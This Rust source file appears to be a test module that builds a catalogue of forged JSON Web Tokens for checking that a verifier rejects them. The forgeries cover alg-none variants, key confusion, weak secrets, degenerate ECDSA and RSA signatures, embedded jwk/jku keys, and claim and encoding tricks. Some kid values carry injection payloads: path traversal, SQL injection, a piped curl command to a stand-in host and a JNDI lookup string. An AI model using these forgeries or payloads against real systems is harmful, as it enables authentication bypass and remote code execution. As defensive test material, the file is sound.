//! The known ways to forge a token. A verifier that omits one check would accept at least one of them.

use jsonwebtoken::{Algorithm, crypto::sign};
use serde_json::{Value, json};

use super::forge::{
    BACKEND, NEXT_SECRET, SECRET, Scene, backend_claims, hmac, segment, sign_segments, signed,
    signed_with_weak_key, with_changes, with_signature,
};
use crate::{harness::in_seconds, key_pair::KeyPair};

/// A name and a token.
pub type Forgery = (String, String);

const HS256: &str = r#"{"alg":"HS256","typ":"JWT"}"#;
const RS256: &str = r#"{"alg":"RS256","typ":"JWT","kid":"r"}"#;
const ES256: &str = r#"{"alg":"ES256","typ":"JWT","kid":"e"}"#;

/// The order of P-256. It is congruent to zero in the arithmetic of signatures.
const ORDER: [u8; 32] = [
    0xff, 0xff, 0xff, 0xff, 0, 0, 0, 0, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xbc, 0xe6, 0xfa,
    0xad, 0xa7, 0x17, 0x9e, 0x84, 0xf3, 0xb9, 0xca, 0xc2, 0xfc, 0x63, 0x25, 0x51,
];

/// All forgeries, with unique names.
pub fn forgeries(scene: &Scene) -> Vec<Forgery> {
    let kinds: [fn(&Scene) -> NamedTokens; 8] =
        [no_signature, key_confusion, key_ids, embedded_keys, bad_signatures, claims, times, forms];
    kinds.iter().flat_map(|kind| kind(scene)).map(|(name, token)| (name.to_owned(), token)).collect()
}

type NamedTokens = Vec<(&'static str, String)>;

fn no_signature(scene: &Scene) -> NamedTokens {
    let issuer_claims = scene.claims();
    let backend_claims = backend_claims();
    let with = |alg: Value, claims: &Value| {
        with_signature(&json!({"alg": alg, "typ": "JWT"}).to_string(), claims, b"")
    };
    let with_alg = |alg: Value| hmac(SECRET, &json!({"alg": alg}).to_string(), &backend_claims.to_string());
    vec![
        ("alg none", with("none".into(), &issuer_claims)),
        ("alg none, backend claims", with("none".into(), &backend_claims)),
        ("alg None", with("None".into(), &issuer_claims)),
        ("alg nOnE", with("nOnE".into(), &issuer_claims)),
        ("alg NONE", with("NONE".into(), &issuer_claims)),
        ("alg none with a signature", with_signature(r#"{"alg":"none"}"#, &issuer_claims, b"signature")),
        ("alg empty", with("".into(), &issuer_claims)),
        ("alg null", with(Value::Null, &issuer_claims)),
        ("alg missing", with_signature(r#"{"typ":"JWT"}"#, &issuer_claims, b"")),
        ("alg missing, valid signature", hmac(SECRET, r#"{"typ":"JWT"}"#, &backend_claims.to_string())),
        ("alg in a list", with_alg(json!(["HS256"]))),
        ("alg a number", with_alg(json!(256))),
        ("alg in lower case", with_alg("hs256".into())),
        ("alg in full width", with_alg("ＨＳ２５６".into())),
        ("alg with a homoglyph", with_alg("НS256".into())),
        ("alg with a null byte", with_alg("HS256\0".into())),
        ("alg with a space", with_alg("HS256 ".into())),
        ("alg with a zero-width space", with_alg("HS256\u{200b}".into())),
        ("stripped signature", with_signature(RS256, &issuer_claims, b"")),
        ("stripped signature, backend claims", with_signature(HS256, &backend_claims, b"")),
    ]
}

fn key_confusion(scene: &Scene) -> NamedTokens {
    let issuer_claims = scene.claims().to_string();
    let backend_claims = backend_claims().to_string();
    let named = r#"{"alg":"HS256","typ":"JWT","kid":"r"}"#;
    let other_size = |algorithm, name| {
        let key = jsonwebtoken::EncodingKey::from_secret(SECRET.as_bytes());
        sign_segments(
            &format!("{}.{}", segment(format!(r#"{{"alg":"{name}"}}"#)), segment(&backend_claims)),
            &key,
            algorithm,
        )
    };
    let of_rsa = |algorithm, name| {
        let header = format!(r#"{{"alg":"{name}","kid":"r"}}"#);
        sign_segments(&format!("{}.{}", segment(header), segment(&issuer_claims)), &scene.rsa.key, algorithm)
    };
    vec![
        ("the public key file as a secret", hmac(scene.pem(), named, &issuer_claims)),
        ("the trimmed public key file as a secret", hmac(scene.pem().trim_end(), named, &issuer_claims)),
        ("the public key file as a secret, backend claims", hmac(scene.pem(), HS256, &backend_claims)),
        ("the published key as a secret", hmac(scene.rsa.public().to_string(), named, &issuer_claims)),
        ("the modulus as a secret", hmac(scene.modulus(), named, &issuer_claims)),
        ("a coordinate as a secret", hmac(scene.ec.public()["x"].as_str().unwrap(), HS256, &backend_claims)),
        ("an empty secret", hmac("", HS256, &backend_claims)),
        ("a common secret", hmac("secret", HS256, &backend_claims)),
        (
            "the local stack's secret",
            hmac("for-local-development-only-everybody-knows-this-secret", HS256, &backend_claims),
        ),
        ("the secret, claims of an issuer with keys", hmac(SECRET, named, &issuer_claims)),
        ("the next secret, claims of an issuer with keys", hmac(NEXT_SECRET, named, &issuer_claims)),
        ("both secrets at once", hmac(format!("{SECRET}{NEXT_SECRET}"), HS256, &backend_claims)),
        ("HS384 with the secret", other_size(Algorithm::HS384, "HS384")),
        ("HS512 with the secret", other_size(Algorithm::HS512, "HS512")),
        ("RS384 with the RSA key", of_rsa(Algorithm::RS384, "RS384")),
        ("RS512 with the RSA key", of_rsa(Algorithm::RS512, "RS512")),
        ("PS256 with the RSA key", of_rsa(Algorithm::PS256, "PS256")),
        ("PS256 declared as RS256", of_rsa(Algorithm::PS256, "RS256")),
        ("ES256 declared as RS256", signed(&scene.ec, RS256, &issuer_claims)),
        ("RS256 declared as ES256", signed(&scene.rsa, ES256, &issuer_claims)),
        ("ES256 with the RSA key's id", signed(&scene.ec, r#"{"alg":"ES256","kid":"r"}"#, &issuer_claims)),
        ("RS256 with the P-256 key's id", signed(&scene.rsa, r#"{"alg":"RS256","kid":"e"}"#, &issuer_claims)),
        (
            "the key of another issuer",
            signed(&scene.other_key, r#"{"alg":"ES256","kid":"o"}"#, &issuer_claims),
        ),
        (
            "the key of another issuer under this issuer's key id",
            signed(&scene.other_key, ES256, &issuer_claims),
        ),
        ("an issuer's key, backend claims", signed(&scene.rsa, RS256, &backend_claims)),
        ("a weak key", signed_with_weak_key(&scene.claims())),
        ("EdDSA", with_signature(r#"{"alg":"EdDSA","kid":"e"}"#, &scene.claims(), &[7; 64])),
    ]
}

fn key_ids(scene: &Scene) -> NamedTokens {
    let issuer_claims = scene.claims().to_string();
    let backend_claims = backend_claims().to_string();
    let named = |id: Value| {
        signed(&scene.forger_rsa, &json!({"alg": "RS256", "kid": id}).to_string(), &issuer_claims)
    };
    let file = |id: &str, content: &str| {
        hmac(content, &json!({"alg": "HS256", "kid": id}).to_string(), &backend_claims)
    };
    vec![
        ("an empty file", file("../../../../../../dev/null", "")),
        ("a file of known content", file("/proc/sys/kernel/randomize_va_space", "2")),
        ("a file after a null byte", file("r\0/../../dev/null", "")),
        ("SQL that returns the key", file("x' UNION SELECT 'forged' -- ", "forged")),
        ("a command", file("r | curl forger.example", "")),
        ("a template", file("${jndi:ldap://forger.example/a}", "")),
        ("a URL", named(scene.forger_site.url.as_str().into())),
        ("a null byte", named("r\0".into())),
        ("a key id in another case", named("R".into())),
        ("a very long key id", named("r".repeat(4096).into())),
        ("a list", named(json!(["r"]))),
        ("an object", named(json!({"r": 1}))),
        ("a number", named(json!(0))),
        ("null", named(Value::Null)),
        ("an empty key id", named("".into())),
        ("a repeated key id", signed(&scene.rsa, r#"{"alg":"RS256","kid":"r","kid":"r"}"#, &issuer_claims)),
    ]
}

fn embedded_keys(scene: &Scene) -> NamedTokens {
    let issuer_claims = scene.claims().to_string();
    let with_field = |name: &str, value: Value, kid: Option<&str>| {
        let mut header = json!({"alg": "RS256", "typ": "JWT", name: value});
        if let Some(kid) = kid {
            header["kid"] = kid.into();
        }
        signed(&scene.forger_rsa, &header.to_string(), &issuer_claims)
    };
    let certificate = segment([0x30; 300]);
    let url = scene.forger_site.url.as_str();
    vec![
        ("jwk", with_field("jwk", scene.forger_rsa.public(), None)),
        ("jwk under the issuer's key id", with_field("jwk", scene.forger_rsa.public(), Some("r"))),
        ("jku", with_field("jku", url.into(), None)),
        ("jku under the issuer's key id", with_field("jku", url.into(), Some("r"))),
        ("x5u", with_field("x5u", url.into(), Some("r"))),
        ("x5c", with_field("x5c", json!([certificate]), Some("r"))),
        ("the forger's key under the issuer's key id", signed(&scene.forger_rsa, RS256, &issuer_claims)),
        ("the forger's P-256 key under the issuer's key id", signed(&scene.forger_ec, ES256, &issuer_claims)),
        ("the forger's key without a key id", signed(&scene.forger_ec, r#"{"alg":"ES256"}"#, &issuer_claims)),
        (
            "jwk with a symmetric key",
            hmac("k", &json!({"alg": "HS256", "jwk": {"kty": "oct", "k": "aw"}}).to_string(), &issuer_claims),
        ),
    ]
}

fn bad_signatures(scene: &Scene) -> NamedTokens {
    let issuer_claims = scene.claims();
    let valid = signed(&scene.ec, ES256, &issuer_claims.to_string());
    let (message, signature) = valid.rsplit_once('.').unwrap();
    let other = signed(&scene.ec, ES256, &scene.claims_with(&json!({"sub": "109"})).to_string());
    let raised = scene.claims_with(&json!({"sub": "admin"}));
    let mut one = [0; 64];
    (one[31], one[63]) = (1, 1);
    let der = [&[0x30, 6, 2, 1, 1, 2, 1, 1][..]].concat();
    vec![
        ("r and s zero", with_signature(ES256, &issuer_claims, &[0; 64])),
        ("r and s zero, without a key id", with_signature(r#"{"alg":"ES256"}"#, &issuer_claims, &[0; 64])),
        ("r and s the order", with_signature(ES256, &issuer_claims, &[ORDER, ORDER].concat())),
        ("r and s one", with_signature(ES256, &issuer_claims, &one)),
        ("a signature in DER", with_signature(ES256, &issuer_claims, &der)),
        ("an RSA signature of zero", with_signature(RS256, &issuer_claims, &[0; 256])),
        ("an RSA signature of one", with_signature(RS256, &issuer_claims, &[vec![0; 255], vec![1]].concat())),
        ("an RSA signature of the modulus", with_signature(RS256, &issuer_claims, &scene.modulus())),
        ("a truncated signature", valid[..valid.len() - 4].to_owned()),
        ("a lengthened signature", format!("{valid}AAAA")),
        ("the signature of another token", format!("{message}.{}", other.rsplit_once('.').unwrap().1)),
        (
            "other claims with a valid signature",
            format!("{}.{}.{signature}", segment(ES256), segment(raised.to_string())),
        ),
        (
            "another header with a valid signature",
            format!(
                "{}.{}.{signature}",
                segment(r#"{"kid":"e","alg":"ES256"}"#),
                segment(issuer_claims.to_string())
            ),
        ),
        ("a signature of the claims alone", {
            let signature =
                sign(segment(issuer_claims.to_string()).as_bytes(), &scene.ec.key, Algorithm::ES256).unwrap();
            format!("{message}.{signature}")
        }),
    ]
}

fn claims(scene: &Scene) -> NamedTokens {
    let by_issuer = |changes: Value| signed(&scene.ec, ES256, &scene.claims_with(&changes).to_string());
    let by_backend =
        |changes: Value| hmac(SECRET, HS256, &with_changes(backend_claims(), &changes).to_string());
    let raw = |end: &str| {
        let whole = scene.claims().to_string();
        signed(&scene.ec, ES256, &format!("{},{end}}}", whole.trim_end_matches('}')))
    };
    vec![
        ("an unknown issuer", by_issuer(json!({"iss": "https://forger.example"}))),
        ("no issuer", by_issuer(json!({"iss": null}))),
        ("a list of issuers", by_issuer(json!({"iss": ["https://issuer.example"]}))),
        ("the issuer with a trailing slash", by_issuer(json!({"iss": "https://issuer.example/"}))),
        ("the issuer in capitals", by_issuer(json!({"iss": "HTTPS://ISSUER.EXAMPLE"}))),
        ("another issuer with this issuer's key", by_issuer(json!({"iss": "https://other.example"}))),
        ("the backend with a published key", by_issuer(json!({"iss": BACKEND}))),
        ("another audience", by_issuer(json!({"aud": "shop"}))),
        ("no audience", by_issuer(json!({"aud": null}))),
        ("an audience with the same prefix", by_issuer(json!({"aud": "athlytiq-chat.forger.example"}))),
        ("an empty list of audiences", by_issuer(json!({"aud": []}))),
        ("an audience as an object", by_issuer(json!({"aud": {"athlytiq-chat": true}}))),
        ("the backend under another name", by_backend(json!({"iss": "https://else.example"}))),
        ("the backend without a name", by_backend(json!({"iss": null}))),
        ("the backend for another audience", by_backend(json!({"aud": "shop"}))),
        ("the backend for no audience", by_backend(json!({"aud": null}))),
        ("no subject", by_issuer(json!({"sub": null}))),
        ("an empty subject", by_issuer(json!({"sub": ""}))),
        ("a numeric subject", by_issuer(json!({"sub": 108}))),
        ("no subject, backend claims", by_backend(json!({"sub": null, "user_id": null}))),
        (
            "only a user_id, of an issuer that does not name users",
            by_issuer(json!({"sub": null, "user_id": uuid::Uuid::new_v4()})),
        ),
        ("two subjects", raw(r#""sub":"admin""#)),
        ("two subjects, one of them escaped", raw(r#""s\u0075b":"admin""#)),
        ("two issuers", raw(r#""iss":"https://issuer.example""#)),
        ("two exp claims", raw(&format!(r#""exp":{}"#, in_seconds(7200)))),
    ]
}

fn times(scene: &Scene) -> NamedTokens {
    let exp = |exp: &str| {
        let whole = scene.claims_with(&json!({"exp": null})).to_string();
        signed(&scene.ec, ES256, &format!(r#"{},"exp":{exp}}}"#, whole.trim_end_matches('}')))
    };
    let by_issuer = |changes: Value| signed(&scene.ec, ES256, &scene.claims_with(&changes).to_string());
    let years = |years: i64| in_seconds(years * 366 * 24 * 3600);
    vec![
        ("no exp", by_issuer(json!({"exp": null}))),
        ("expired", by_issuer(json!({"exp": in_seconds(-3600)}))),
        ("exp zero", exp("0")),
        ("exp negative", exp("-1")),
        ("exp near minus infinity", exp("-1e308")),
        ("exp a string", exp(&format!(r#""{}""#, in_seconds(3600)))),
        ("exp null", exp("null")),
        ("exp true", exp("true")),
        ("exp in a list", exp(&format!("[{}]", in_seconds(3600)))),
        ("exp beyond floating point", exp("1e400")),
        ("exp at the limit of floating point", exp("1e308")),
        ("exp at the limit of integers", exp("18446744073709551615")),
        ("exp in milliseconds", exp(&format!("{}000", in_seconds(3600)))),
        ("exp in two years", exp(&years(2).to_string())),
        ("exp in two hundred years, with the secret", {
            hmac(SECRET, HS256, &with_changes(backend_claims(), &json!({"exp": years(200)})).to_string())
        }),
        ("exp NaN", exp("NaN")),
        ("nbf in the future", by_issuer(json!({"nbf": in_seconds(3600)}))),
        ("nbf a string", by_issuer(json!({"nbf": "0"}))),
        ("iat in the future", by_issuer(json!({"iat": in_seconds(3600)}))),
        ("iat an object", by_issuer(json!({"iat": {}}))),
    ]
}

fn forms(scene: &Scene) -> NamedTokens {
    let issuer_claims = scene.claims().to_string();
    let header = |header: &str| signed(&scene.ec, header, &issuer_claims);
    let signed_parts = |header: String, claims: String| {
        sign_segments(&format!("{header}.{claims}"), &scene.ec.key, Algorithm::ES256)
    };
    let odd = segment(scene.claims_with(&json!({"name": "ÿÿÿ>>>???~~~"})).to_string());
    assert!(odd.contains(['-', '_']), "the base64 alphabets differ in it");
    let valid = header(ES256);
    let parts: Vec<&str> = valid.split('.').collect();
    let [protected, payload, signature] = parts[..] else { unreachable!("three segments") };
    let bytes = |bytes: Vec<u8>| signed_parts(segment(ES256), segment(bytes));
    let latin =
        [&issuer_claims.as_bytes()[..issuer_claims.len() - 1], br#","name":""#, &[0xff, 0xfe], br#""}"#]
            .concat();
    let same = KeyPair { id: "e".to_owned(), key: scene.ec.key.clone(), algorithm: Algorithm::ES256 };
    vec![
        ("crit", header(r#"{"alg":"ES256","kid":"e","crit":["exp"]}"#)),
        ("crit with b64", header(r#"{"alg":"ES256","kid":"e","crit":["b64"],"b64":false}"#)),
        ("crit empty", header(r#"{"alg":"ES256","kid":"e","crit":[]}"#)),
        ("another typ", header(r#"{"alg":"ES256","kid":"e","typ":"logout+jwt"}"#)),
        ("another typ in full", header(r#"{"alg":"ES256","kid":"e","typ":"application/logout+jwt"}"#)),
        ("typ with a parameter", header(r#"{"alg":"ES256","kid":"e","typ":"JWT;x=y"}"#)),
        ("typ a list", header(r#"{"alg":"ES256","kid":"e","typ":["JWT"]}"#)),
        ("a nested token with cty", signed(&scene.ec, r#"{"alg":"ES256","kid":"e","cty":"JWT"}"#, &valid)),
        ("a nested token", signed(&scene.ec, ES256, &valid)),
        ("two algs", header(r#"{"alg":"none","alg":"ES256","kid":"e"}"#)),
        ("two segments", format!("{protected}.{payload}")),
        ("four segments", format!("{valid}.{signature}")),
        (
            "five segments, encrypted",
            format!(
                "{}.{payload}.{payload}.{payload}.{signature}",
                segment(r#"{"alg":"dir","enc":"A128GCM"}"#)
            ),
        ),
        ("only dots", "..".to_owned()),
        ("JSON", json!({"protected": protected, "payload": payload, "signature": signature}).to_string()),
        (
            "JSON with several signatures",
            json!({"payload": payload, "signatures": [{"protected": protected, "signature": signature}]})
                .to_string(),
        ),
        ("padded header", signed_parts(format!("{}=", segment(ES256)), segment(&issuer_claims))),
        ("padded claims", signed_parts(segment(ES256), format!("{}==", segment(&issuer_claims)))),
        ("padded signature", format!("{valid}==")),
        (
            "the standard base64 alphabet",
            signed_parts(segment(ES256), odd.replace('-', "+").replace('_', "/")),
        ),
        ("a space inside", valid.replace('.', ". ")),
        ("a tab inside", valid.replace('.', "\t.")),
        ("invalid UTF-8", bytes(latin)),
        ("a byte order mark", bytes(format!("\u{feff}{issuer_claims}").into_bytes())),
        ("UTF-16", bytes(issuer_claims.encode_utf16().flat_map(u16::to_le_bytes).collect())),
        ("trailing data after the claims", bytes(format!("{issuer_claims}{{}}").into_bytes())),
        ("claims in a list", bytes(format!("[{issuer_claims}]").into_bytes())),
        ("claims in a string", bytes(json!(issuer_claims).to_string().into_bytes())),
        ("no claims", bytes(b"{}".to_vec())),
        ("an empty claims segment", bytes(Vec::new())),
        ("header in a list", header(r#"[{"alg":"ES256","kid":"e"}]"#)),
        ("deeply nested claims", bytes("{\"a\":".repeat(1000).into_bytes())),
        ("huge claims", same.sign(&scene.claims_with(&json!({"name": "x".repeat(7000)})))),
        ("huge header", header(&json!({"alg": "ES256", "kid": "e", "x": "x".repeat(6000)}).to_string())),
    ]
}
